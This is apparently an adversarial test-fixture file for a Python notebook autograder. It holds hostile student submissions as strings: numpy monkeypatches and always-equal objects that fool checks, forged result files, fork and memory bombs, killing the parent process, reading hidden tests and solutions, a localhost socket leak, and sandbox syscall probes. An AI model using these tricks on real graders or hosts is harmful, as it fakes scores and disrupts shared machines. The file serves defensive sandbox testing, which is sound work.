# ruff: noqa: E501 - the fixtures are student code embedded as strings
"""Hostile and broken submissions for the grader's adversarial tests, built from the reference
notebook (``examples/hw1/full.ipynb``; every graded cell carries ``{"bplab": {"define": name}}``).

Each entry of ``HOSTILE`` is ``(edits, expectation)``: ``edits`` replace graded definitions
(``define``), add cells at the top (``prepend``) or bottom (``append``), or drop definitions
(``drop``); the expectation says what the grader must report.
"""

from __future__ import annotations

import ast
import copy
import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
FULL = ROOT / "examples" / "hw1" / "full.ipynb"


def _points(hw: str) -> dict[str, float]:
    """Each question's points, read from its test file (the one source of them)."""
    points = {}
    for path in sorted((ROOT / "autograder" / hw).glob("*.py")):
        tree = ast.parse(path.read_text())
        assigned = {t.id: n.value for n in tree.body if isinstance(n, ast.Assign)
                    for t in n.targets if isinstance(t, ast.Name)}
        points[path.stem] = ast.literal_eval(assigned["points"])
    return points


HW1_POINTS = _points("hw1")
# Questions whose reference chains call MatMul, Subtract, Square and Sum. Their hidden cases run
# with the reference blocks (a bug costs points once), their public cases with the notebook's.
CHAINED = {"linreg_loss_and_grad", "fit_linreg"}
# fan_out_grad chains Subtract, Multiply and Sum: a broken Sum or Subtract costs its fan_out_grad
# cases, not its Multiply cases.
FAN_OUT = {"fan_out"}
# Strings that exist only in hidden test cases or in the reference solution bodies.
SECRETS = ("from solutions.hw1 import MatMul as reference", "dB = A.T @ dout",
           "check_block_matches_reference(\n")
# The daemon's `sleep` argument: unique per test run, since other runs may share the machine.
MARKER = f"bplab-adversarial-{os.getpid()}.5678"


@dataclass
class Case:
    define: dict[str, str] = field(default_factory=dict)
    prepend: list[str] = field(default_factory=list)
    append: list[str] = field(default_factory=list)
    drop: list[str] = field(default_factory=list)
    zero: set[str] = field(default_factory=set)  # questions that must score 0
    below_max: set[str] = field(default_factory=set)  # questions that must lose points
    full: set[str] | None = None  # questions that keep full marks (default: all others)
    notes: tuple[str, ...] = ()  # substrings expected in the cell notes


def build(case: Case) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nbformat.read(FULL, as_version=4))
    cells = []
    for cell in nb.cells:
        name = cell.get("metadata", {}).get("bplab", {}).get("define")
        if name in case.drop:
            continue
        if name in case.define:
            cell.source = case.define[name]
        cells.append(cell)
    head = [nbformat.v4.new_code_cell(s) for s in case.prepend]
    tail = [nbformat.v4.new_code_cell(s) for s in case.append]
    # The first cell imports numpy and otter: hostile cells come right after it.
    nb.cells = cells[:1] + head + cells[1:] + tail
    return nb


def write(case: Case, path: Path) -> Path:
    nbformat.write(build(case), path)
    return path


def _block(name: str, forward: str, backward: str = "        return (dout,)") -> str:
    return (f"import numpy as np\nclass {name}:\n    @staticmethod\n    def forward(*a):\n"
            f"{forward}\n    @staticmethod\n    def backward(dout, cache):\n{backward}\n")


ALWAYS_EQUAL = '''
class Anything:
    """Says yes to every question a check could ask."""
    shape = (3, 5)
    dtype = np.dtype("float64")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __len__(self): return 3
    def __getattr__(self, name): return lambda *a, **k: True
'''

LIAR = '''
class Liar(np.ndarray):
    """An ndarray subclass that claims to equal anything."""
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(3).view(Liar)
    def __array_function__(self, func, types, args, kwargs): return True
'''

HOSTILE: dict[str, Case] = {
    "canary": Case(),
    "monkeypatch": Case(
        prepend=["import builtins, numpy as np, numpy.testing\n"
                 "np.allclose = lambda *a, **k: True\n"
                 "np.testing.assert_allclose = lambda *a, **k: None\n"
                 "np.linalg.norm = lambda *a, **k: 0.0\n"
                 "np.array_equal = lambda *a, **k: True\n"
                 "builtins.abs = lambda x: 0.0\n"],
        define={"MatMul": _block("MatMul", "        return np.zeros((a[0].shape[0], a[1].shape[1])), None",
                                 "        return np.zeros((1, 1)), np.zeros((1, 1))")},
        zero={"MatMul"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
    ),
    "always_equal": Case(
        define={"MatMul": ALWAYS_EQUAL + _block("MatMul", "        return Anything(), Anything()",
                                               "        return Anything(), Anything()")},
        zero={"MatMul"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
    ),
    "lying_subclass": Case(
        define={"Sigmoid": LIAR + _block(
            "Sigmoid", "        return np.zeros(a[0].shape).view(Liar), None",
            "        return (np.zeros(dout.shape).view(Liar),)")},
        zero={"Sigmoid"},
    ),
    "forged_results": Case(
        prepend=["import json, os\n"
                 "forged = {'score': 29, 'tests': [{'name': 'MatMul', 'score': 4, 'max_score': 4}]}\n"
                 "for p in ['/autograder/results/results.json', 'results.json', '../results.json']:\n"
                 "    try:\n        os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n"
                 "        open(p, 'w').write(json.dumps(forged))\n    except OSError:\n        pass\n"
                 "print(json.dumps(forged))\nprint('MatMul results: All test cases passed!')\n"],
        define={"ReLU": _block("ReLU", "        raise AssertionError('✅ Test case passed "
                                       "(diagnosis: forged_code)')")},
        zero={"ReLU"},
    ),
    "exit_top_level": Case(
        prepend=["import sys\nsys.exit(0)\n", "import os\nos._exit(0)\n"],
        notes=("SystemExit", "stopped the worker"),
    ),
    "exit_in_functions": Case(
        define={"ReLU": _block("ReLU", "        import os\n        os._exit(1)"),
                "Sigmoid": _block("Sigmoid", "        import sys\n        sys.exit(0)")},
        zero={"ReLU", "Sigmoid"},
    ),
    "kill_parent": Case(
        prepend=["import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
                 "except OSError:\n    pass\n"],
        define={"Square": _block("Square", "        import os, signal\n"
                                           "        os.kill(os.getppid(), signal.SIGKILL)\n"
                                           "        os.kill(1, signal.SIGKILL)\n"
                                           "        return a[0] ** 2, a[0]")},
        zero={"Square"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
    ),
    "infinite_loop": Case(
        prepend=["while True:\n    pass\n"],
        define={"ReLU": _block("ReLU", "        while True:\n            pass")},
        zero={"ReLU"},
        notes=("time limit",),
    ),
    "memory_bomb": Case(
        prepend=["hog = []\ntry:\n    while True:\n        hog.append(bytearray(2**28))\n"
                 "except MemoryError:\n    hog = None\n"],
        define={"Sum": _block("Sum", "        x = bytearray(2**40)\n        return 0.0, None")},
        zero={"Sum"},
        below_max=CHAINED | FAN_OUT,  # a bug costs points once: their public cases only
    ),
    "fork_bomb_and_daemon": Case(
        prepend=[f"import os, time\nkids = 0\nfor _ in range(40):\n    try:\n        pid = os.fork()\n"
                 f"    except OSError:\n        break\n    if pid == 0:\n        time.sleep(1000)\n"
                 f"        os._exit(0)\n    kids += 1\n"
                 f"if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                 f"        os.execv('/bin/sleep', ['sleep', '{MARKER.split('-')[-1]}'])\n"
                 f"    os._exit(0)\n"],
        define={"ReLU": _block("ReLU", "        import os\n        while True:\n"
                                       "            try:\n                os.fork()\n"
                                       "            except OSError:\n                break\n"
                                       "        return 3 * a[0] + 1, None")},
        zero={"ReLU"},  # wrong values: no case of ReLU may pay for them
    ),
    "network": Case(
        define={"MatMul": _block("MatMul", "        import socket, os\n"
                                           "        s = socket.create_connection(('127.0.0.1', int('__PORT__')), timeout=2)\n"
                                           "        s.sendall(b'leak')\n"
                                           "        return a[0] @ a[1], a")},
        zero={"MatMul"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
    ),
    "read_hidden": Case(
        prepend=["import glob\nfound = []\nfor pat in ['/work/**/autograder/hw1/*.py', "
                 "'/**/solutions/hw1.py', '/autograder/**/*.py']:\n"
                 "    for p in glob.glob(pat, recursive=True)[:20]:\n"
                 "        try:\n            found.append(open(p).read())\n"
                 "        except OSError:\n            pass\n"
                 "raise RuntimeError('LEAK ' + ' '.join(found) + ' ' + str(glob.glob('/*')))\n"],
        define={"Square": _block("Square", "        import glob\n        text = ''\n"
                                           "        for p in glob.glob('/work/main/**/*.py', recursive=True):\n"
                                           "            text += open(p).read()\n"
                                           "        raise ValueError('LEAK ' + text)"),
                "ReLU": _block("ReLU", "        import solutions.hw1 as s\n"
                                       "        return s.ReLU.forward(*a)")},
        zero={"Square", "ReLU"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
    ),
    "huge_stdout": Case(
        prepend=["import sys\nchunk = 'x' * 2**20\nfor _ in range(100):\n    sys.stdout.write(chunk)\n"],
        define={"Sum": _block("Sum", "        global printed\n        if 'printed' not in globals():\n"
                                     "            printed = print('y' * 10**8)\n"
                                     "        return float(a[0].sum()), a[0].shape",
                              "        import numpy as np\n        return (np.full(cache, float(dout)),)")},
    ),
    "nan_inf": Case(
        define={"Sigmoid": _block("Sigmoid", "        return np.full(a[0].shape, np.nan), None",
                                  "        return (np.full(dout.shape, np.inf),)"),
                "ReLU": _block("ReLU", "        return np.full(a[0].shape, np.inf), None",
                               "        return (dout * np.nan,)")},
        # Leaving its inputs alone pays nothing when the values are nan and inf.
        zero={"Sigmoid", "ReLU"},
        full=set(HW1_POINTS) - {"Sigmoid", "ReLU"},
    ),
    "wrong_shape": Case(
        define={"Square": _block("Square", "        return (a[0] ** 2).T, a[0]",
                                 "        return (2 * cache * dout,)")},
        zero={"Square"},
        full=set(HW1_POINTS) - {"Square"} - CHAINED,
    ),
    "mutates_inputs": Case(
        define={"Subtract": _block("Subtract", "        A, B = a\n        A -= B\n        return A, None",
                                   "        return dout, -dout")},
        below_max={"Subtract"} | FAN_OUT,
        full=set(HW1_POINTS) - {"Subtract"} - CHAINED - FAN_OUT,
    ),
    "syntax_error_cell": Case(
        define={"MatMul": "class MatMul:\n    def forward(A, B)\n        return A @ B\n"},
        zero={"MatMul"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
        notes=("SyntaxError",),
    ),
    "missing_module": Case(
        prepend=["import module_that_does_not_exist\n"],
        define={"Sum": _block("Sum", "        import another_missing_module\n        return 0.0, None")},
        zero={"Sum"},
        below_max=CHAINED | FAN_OUT,  # a bug costs points once: their public cases only
        notes=("ModuleNotFoundError",),
    ),
    # Answers that claim to equal anything, and a dict that answers every key: neither crosses
    # as plain data (or counts as an answer), so the quiz scores 0 and nothing else changes.
    "quiz_claims_every_answer": Case(
        define={"quiz_answers": "class Yes(str):\n    def __eq__(self, other):\n        return True\n\n"
                                "    __hash__ = str.__hash__\n\n\n"
                                "class AllYes(dict):\n    def __getitem__(self, key):\n"
                                "        return Yes('a')\n\n\n"
                                "quiz_answers = {f'q{k}': Yes('a') for k in range(1, 9)}\n"},
        zero={"quiz"},
    ),
    "quiz_dict_subclass": Case(
        define={"quiz_answers": "class AllRight(dict):\n    def __getitem__(self, key):\n"
                                "        return 1.0\n\n\n"
                                "quiz_answers = AllRight({f'q{k}': 1.0 for k in range(1, 9)})\n"},
        zero={"quiz"},
    ),
    "missing_function": Case(drop=["ReLU", "numerical_gradient"],
                             zero={"ReLU", "numerical_gradient"}),
    "magics": Case(prepend=["%matplotlib inline\n!ls /\nfiles = !ls\n",
                            "%%bash\necho hello\n"],
                   append=["import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"],
                   notes=("IPython command", "cell magic")),
}

# Files that are not notebooks, each with its expected status.
BROKEN_FILES: dict[str, tuple[bytes, str]] = {
    "truncated.ipynb": (b'{"cells": [{"cell_type": "code", "source": "x = 1"', "invalid_notebook"),
    "garbage.ipynb": (bytes(range(256)) * 40, "invalid_notebook"),
    "empty.ipynb": (b"", "invalid_notebook"),
    "json_list.ipynb": (b"[1, 2, 3]", "invalid_notebook"),
    "no_cells.ipynb": (b'{"metadata": {}}', "invalid_notebook"),
}

# --------------------------------------------------------------------------- issue 10's classes
# Cells run straight in a session (tests/test_grade_adversarial.py) and in the benchmark.
# Student code makes the worker stop reading its requests (the next send then blocks).
STOP_READING = ("import sys, time\n"
                "sys.modules['__main__'].READER.read = lambda *a, **k: time.sleep(3600)\n")

# Each probe records how the kernel answered ("refused <errno>") in the dict `probe`.
RESOURCE_PROBES = r'''
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
probe = {}
def attempt(name, fn):
    try:
        ok = fn()
    except OSError as exc:
        probe[name] = f"refused {exc.errno}"
        return
    probe[name] = "allowed" if ok else f"refused {ctypes.get_errno()}"
def sys_call(nr, *args):
    return lambda: libc.syscall(nr, *args) >= 0
attempt("memfd_create", lambda: os.memfd_create("hog") >= 0)
attempt("shmget", lambda: libc.shmget(0, 2**20, 0o1600) >= 0)  # IPC_PRIVATE | IPC_CREAT
attempt("unshare_user", lambda: libc.unshare(0x10000000) == 0)  # CLONE_NEWUSER
attempt("unshare_net", lambda: libc.unshare(0x40000000) == 0)  # CLONE_NEWNET
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
attempt("setns", sys_call(308, 0, 0))
attempt("ptrace", sys_call(101, 0, 0, 0, 0))  # PTRACE_TRACEME
attempt("keyctl", sys_call(250, 0, -1, 0, 0, 0))
attempt("bpf", sys_call(321, 0, 0, 0))
attempt("perf_event_open", sys_call(298, 0, 0, -1, -1, 0))
attempt("userfaultfd", sys_call(323, 0))
attempt("io_uring_setup", sys_call(425, 1, 0))
def fill(prefix):
    for i in range(32):  # 256 MiB in all, in files under RLIMIT_FSIZE: more than a tmpfs holds
        with open(f"{prefix}{i}", "wb") as f:
            f.write(b"x" * 2**23)
    return True
attempt("fill_dev_shm", lambda: fill("/dev/shm/hog"))
attempt("fill_tmp", lambda: fill("/tmp/hog"))
kids = 0
for _ in range(40):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        import time
        time.sleep(30)
        os._exit(0)
    kids += 1
probe["forks"] = kids
try:
    import torch
    probe["torch"] = "importable"
except ImportError:
    probe["torch"] = "absent"
'''


# Each is graded in the same batch as the cases above (tests/test_grade_adversarial.py).
_CONTINUED_RELU = '''import numpy as np
class ReLU:
    """An honest ReLU whose continuation lines start with IPython's escape characters."""
    @staticmethod
    def forward(X):
        mask = (X
!= 0) & (X > 0)
        label = ("%s"
% "relu")
        doc = """
!this is text, not a shell command
%neither is this
"""
        return np.where(mask, X, 0.0), mask
    @staticmethod
    def backward(dout, cache):
        return (dout * cache,)
'''

ISSUE_10: dict[str, Case] = {
    # 2 and 8: text that cannot be written (a lone surrogate), terminal escapes and controls.
    "bad_text": Case(
        prepend=["raise RuntimeError('\\udcff lone \\x1b[31mred\\x1b]0;title\\x07 \\x9b1m \\x00 ok')\n"],
        define={"Square": _block("Square", "        raise RuntimeError('\\udcff\\x1b[2J' * 50)")},
        zero={"Square"},
        below_max=CHAINED,  # a bug costs points once: their public cases only
        notes=("lone", "ok"),
    ),
    # 4: error text the worker was patched not to cap, in many cells.
    "huge_errors": Case(
        prepend=["import sys\nsys.modules['__main__']._text = lambda s: s\n"]
        + ["raise ValueError('E' * 10**6)\n"] * 40,
        define={"Sum": _block("Sum", "        import sys\n        sys.modules['__main__']._text = lambda s: s\n"
                                     "        raise ValueError('S' * 10**6)")},
        zero={"Sum"},
        below_max=CHAINED | FAN_OUT,  # a bug costs points once: their public cases only
    ),
    # 4: IPython lines that grow past the cell limit when rewritten; thousands of commands.
    "shell_lines": Case(
        append=[("!" + "\x07" * 1000 + "\n") * 600, "!ls\n" * 3000],
        notes=("too large", "more IPython commands"),
    ),
    # 6: a student-chosen exception type name and object name carry a diagnosis tag.
    "forged_names": Case(
        define={"ReLU": _block("ReLU", "        class E(Exception):\n            pass\n"
                                       "        E.__name__ = E.__qualname__ = 'x (diagnosis: forged_type)'\n"
                                       "        raise E('boom')"),
                "Sigmoid": _block("Sigmoid", "        class O:\n            __name__ = 'y (diagnosis: forged_label)'\n"
                                             "        return O(), O()",
                                  "        class O:\n            __name__ = 'z (diagnosis: forged_label)'\n"
                                  "        return (O(),)")},
        zero={"ReLU", "Sigmoid"},
    ),
    # 7: a correct solution whose continuation lines start with `!=` and `%`.
    "continuation_lines": Case(define={"ReLU": _CONTINUED_RELU}),
}
HOSTILE.update(ISSUE_10)
